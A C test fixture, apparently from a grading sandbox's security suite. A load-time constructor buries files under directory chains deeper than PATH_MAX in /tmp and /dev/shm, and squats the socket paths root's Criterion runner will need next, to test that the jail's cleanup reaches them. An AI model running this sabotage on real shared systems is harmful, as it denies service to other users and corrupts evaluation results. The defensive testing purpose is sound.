/* Attack (files beyond a sweep's reach): a chain of directories deeper than PATH_MAX in /tmp
 * and /dev/shm, with a file at its bottom, and the names root's test runner will want next
 * (/tmp/criterion_<pid>.sock, for the next 400 process ids) taken as directories. A sweep
 * that stops at some depth, or at PATH_MAX, leaves the chain for every later test (once, a
 * 66-deep chain outlived every sweep, and squatted sockets aborted root's runner: the other
 * exercises scored 3.8 of 70). Without the jail they are root's and stay; in the jail the
 * warden removes them, at any depth, after the test (in the sandbox they die with its /tmp). */
#include <fcntl.h>
#include <sys/stat.h>

#include "common.h"

static void chain(const char *top)
{
    int dir = open(top, O_RDONLY | O_DIRECTORY);
    char name[64];
    snprintf(name, sizeof name, "dps-attack-chain-%d", (int)getpid());
    /* 300 levels of 200-byte names: 60,000 bytes of path, past PATH_MAX (4,096). */
    char level[201];
    memset(level, 'd', 200);
    level[200] = 0;
    const char *next = name;
    for (int depth = 0; dir >= 0 && depth < 300; depth++, next = level) {
        if (mkdirat(dir, next, 0755) && errno != EEXIST)
            break;
        int down = openat(dir, next, O_RDONLY | O_DIRECTORY);
        close(dir);
        dir = down;
    }
    if (dir >= 0) {
        close(openat(dir, "bottom", O_WRONLY | O_CREAT, 0644));
        close(dir);
    }
}

__attribute__((constructor)) static void attack(void)
{
    chain("/tmp");
    chain("/dev/shm");
    char path[64];
    for (int k = 1; k <= 400; k++) {
        snprintf(path, sizeof path, "/tmp/criterion_%d.sock", (int)getpid() + k);
        mkdir(path, 0755);
    }
}
